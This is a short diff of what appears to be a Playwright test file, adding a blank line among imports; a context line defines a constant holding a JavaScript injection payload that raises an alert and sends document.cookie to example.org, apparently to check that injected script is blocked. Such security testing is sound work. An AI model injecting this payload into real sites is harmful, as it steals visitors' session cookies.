@@ -13,6 +13,7 @@ from urllib.parse import urlencode
 
 import pytest
 from playwright.sync_api import Page, expect
+
 from windows import Site, Windows, press, ready, rsft
 
 RUNS = "window.hacked = (window.hacked || 0) + 1; alert(1); fetch('https://example.org/' + document.cookie)"
